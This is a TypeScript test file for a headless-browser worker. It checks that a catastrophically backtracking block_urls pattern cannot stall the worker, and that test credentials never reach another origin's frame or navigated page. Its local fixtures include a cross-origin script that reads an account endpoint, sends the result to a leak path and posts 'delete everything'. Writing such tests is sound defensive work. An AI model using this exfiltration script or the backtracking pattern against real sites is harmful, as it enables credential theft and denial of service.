// Issue 28, the browser worker against hostile input: a block_urls pattern built to backtrack cannot hold
// the worker's event loop, and the test's credentials go only to requests the tested origin makes itself,
// never to another origin's frame or to a page a flow navigated to. Real worker process, real Chromium;
// fixture origins on local ports (a different port is a different origin).
import assert from 'node:assert/strict';
import type { IncomingHttpHeaders } from 'node:http';
import { test } from 'node:test';
import { startTest, waitForTest } from '@pageprobe/testing';
import { startApiApp, startApp } from '../support/app-process.ts';
import { startServer } from '../support/servers.ts';
import { teamWithKey } from '../support/teams.ts';
import { createTestEnv } from '../support/test-env.ts';

const SECRETS = { token: 'tok-5a1e7c3b-SECRET', cookie: 'ck-9d2f4e6a-SECRET', password: 'pw-3b8c1d7e-SECRET' };
const ACCOUNT = '{"account":"acct-42-PRIVATE"}';
const env = await createTestEnv();

const html = (body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Fixture</title></head><body>${body}</body></html>`;
const basic = `Basic ${Buffer.from(`stage:${SECRETS.password}`).toString('base64')}`;
/** Which of the three credentials a request to the tested origin carried. */
const carried = (h: IncomingHttpHeaders) => ({
  header: h['x-team-token'] === SECRETS.token,
  cookie: (h.cookie ?? '').includes(`session=${SECRETS.cookie}`),
  basic: h.authorization === basic,
});
const ALL = { header: true, cookie: true, basic: true };
const NONE = { header: false, cookie: false, basic: false };

// What the other origin managed to read from the tested one, as its pages report it back.
const leaked: Array<{ from: string; read: string }> = [];
let siteUrl = '';
const other = await startServer((req, res) => {
  const page = (body: string) => res.writeHead(200, { 'content-type': 'text/html' }).end(html(body));
  // Reads the account with the page's credentials if it can, and reports what it got.
  const steal = (from: string) =>
    `<script>fetch("${siteUrl}/api/account?from=${from}").then((r) => r.text()).then((t) => fetch("/leak/${from}?" + encodeURIComponent(t))).finally(() => document.body.insertAdjacentHTML("beforeend", "<p id=done>done</p>"));
     fetch("${siteUrl}/api/change?from=${from}", { method: "POST", mode: "no-cors", body: "delete everything" });</script>
     <img src="${siteUrl}/api/pixel?from=${from}" alt="">`;
  if (req.url === '/frame') return page(`<h1>Widget</h1>${steal('frame')}`);
  if (req.url === '/elsewhere') return page(`<h1>Elsewhere</h1>${steal('navigated')}`);
  const leak = /^\/leak\/(\w+)\?(.*)$/.exec(req.url);
  if (leak) leaked.push({ from: leak[1]!, read: decodeURIComponent(leak[2]!) });
  res.writeHead(204).end();
});
const site = await startServer((req, res) => {
  const { header, cookie, basic: auth } = carried(req.headers);
  if (!header || !cookie || !auth) {
    return res.writeHead(403, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('forbidden');
  }
  if (req.url === '/app') {
    return res
      .writeHead(200, { 'content-type': 'text/html' })
      .end(
        html(
          `<h1>Account</h1><p>Signed in.</p><iframe src="${other.url}/frame" title="widget"></iframe><script>fetch("/api/account?from=own").finally(() => document.body.insertAdjacentHTML("beforeend", "<p id=own>own</p>"))</script>`,
        ),
      );
  }
  res.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' }).end(ACCOUNT);
});
siteUrl = site.url;

// A page that asks for a long URL the test blocks: every blocked URL is matched against every pattern.
const longPath = `/${'a'.repeat(120)}`;
const blocking = await startServer((req, res) => {
  if (req.url === '/') {
    return res
      .writeHead(200, { 'content-type': 'text/html' })
      .end(html(`<h1>Blocked</h1><p>A page with a long URL in it.</p><img src="${longPath}" alt="">`));
  }
  res.writeHead(404).end();
});
// 30 stars over a URL without a b: a backtracking matcher tries about C(120, 30) ways before saying no.
const hostile = `${'*a'.repeat(30)}*b`;

const { origin } = await startApiApp(env);
const worker = await startApp(
  'worker-browser',
  env.appEnv({
    ALLOW_PRIVATE_TARGETS: 'false',
    ALLOW_TARGETS: [site, other, blocking].map((s) => new URL(s.url).host).join(','),
    LIGHTHOUSE_MAX_WAIT_MS: '6000',
    BROWSER_TEST_TYPES: 'lighthouse',
    OPS_PORT: '0',
    PUBLIC_BASE_URL: origin,
  }),
);
const ops = `http://127.0.0.1:${/"opsPort":(\d+)/.exec(worker.output())![1]}`;
const { key } = await teamWithKey(env, { credits: 20 });
type T = Record<string, any> & { status: string };
const finished = async (started: Promise<{ id: string }>) =>
  waitForTest<T>(origin, key, (await started).id, { timeoutMs: 150_000 });

// Queued together; the worker runs them one after the other.
const blocked = startTest(origin, key, {
  url: `${blocking.url}/`,
  type: 'lighthouse',
  throttling: 'none',
  block_urls: [`*${longPath}`, ...Array.from({ length: 4 }, (_, i) => `${hostile}${i}`)],
} as never);
const flow = startTest(origin, key, {
  url: `${site.url}/app`,
  type: 'lighthouse',
  headers: { 'X-Team-Token': SECRETS.token },
  cookies: [{ name: 'session', value: SECRETS.cookie }],
  basic_auth: { username: 'stage', password: SECRETS.password },
  steps: [
    // The page's own request is answered before the flow moves on: Lighthouse ends a load with up to two
    // requests still in flight, and navigating away would cancel it (seen under the full suite's load).
    { type: 'wait_for', selector: '#own' },
    { type: 'navigate', url: `${other.url}/elsewhere` },
    { type: 'wait_for', selector: '#done' },
  ],
} as never);

test('hostile block_urls patterns: the worker keeps answering /healthz while the blocked URLs are counted', async () => {
  // Measured, as the issue asks: the event loop must not stop. Lighthouse's own work holds it for a
  // few seconds at worst on a loaded machine; the patterns, matched by backtracking, held it for hours.
  let slowest = 0;
  let done = false;
  const watch = (async () => {
    while (!done) {
      const t0 = performance.now();
      // A fresh connection each time: a kept-alive one that the server times out just as a late poll
      // reuses it fails with "fetch failed" (seen under the full suite's load) though the worker answers.
      const res = await fetch(`${ops}/healthz`, {
        signal: AbortSignal.timeout(30_000),
        headers: { connection: 'close' },
      }).catch((e: Error) => e);
      if (res instanceof Error) {
        throw new Error(
          `the worker stopped answering /healthz (${res.message}); its output ends:\n${worker.output().slice(-3000)}`,
        );
      }
      assert.equal(res.status, 200);
      slowest = Math.max(slowest, performance.now() - t0);
      await new Promise((r) => setTimeout(r, 200));
    }
  })();
  try {
    const t = await Promise.race([finished(blocked), watch.then(() => assert.fail('unreachable'))]);
    assert.equal(t.status, 'completed', JSON.stringify(t.error));
    assert.deepEqual(t.result.blocked_urls, [
      { pattern: `*${longPath}`, requests: 1 },
      ...Array.from({ length: 4 }, (_, i) => ({ pattern: `${hostile}${i}`, requests: 0 })),
    ]);
    assert.ok(!blocking.requests.some((r) => r.url === longPath), 'the long URL never left Chromium');
  } finally {
    done = true;
    await watch.catch(() => {});
  }
  assert.ok(slowest < 30_000, `slowest /healthz answer ${Math.round(slowest)} ms`);
});

test("credentials go to the tested origin's own requests and navigations, never to another origin's frame or page", async () => {
  const t = await finished(flow);
  assert.equal(t.status, 'completed', JSON.stringify(t.error));
  const to = (path: string, dest?: string) =>
    site.requests
      .filter((r) => r.url.startsWith(path) && (!dest || r.headers['sec-fetch-dest'] === dest))
      .map((r) => carried(r.headers));
  // The tested origin's own: the top-level navigation and its page's request. (Lighthouse fetches the
  // page again itself, outside the page's requests: that one never carried them.)
  for (const [path, dest] of [
    ['/app', 'document'],
    ['/api/account?from=own', undefined],
  ] as const) {
    const got = to(path, dest);
    assert.ok(got.length >= 1, `${path} was requested`);
    assert.deepEqual(
      got,
      got.map(() => ALL),
      path,
    );
  }
  // The other origin's, from a frame in the tested page and from the page a navigate step opened: a
  // CORS read, a no-cors POST, an image. Each was made, and none carried the header, cookie or password.
  for (const from of ['frame', 'navigated']) {
    for (const path of [`/api/account?from=${from}`, `/api/change?from=${from}`, `/api/pixel?from=${from}`]) {
      const got = to(path);
      assert.ok(got.length >= 1, `${path} was requested`);
      assert.deepEqual(
        got,
        got.map(() => NONE),
        path,
      );
    }
  }
  assert.ok(
    leaked.some((l) => l.from === 'navigated'),
    JSON.stringify(leaked),
  );
  assert.deepEqual(
    leaked.map((l) => l.read),
    leaked.map(() => 'forbidden'),
    'the other origin read nothing of the account',
  );
});
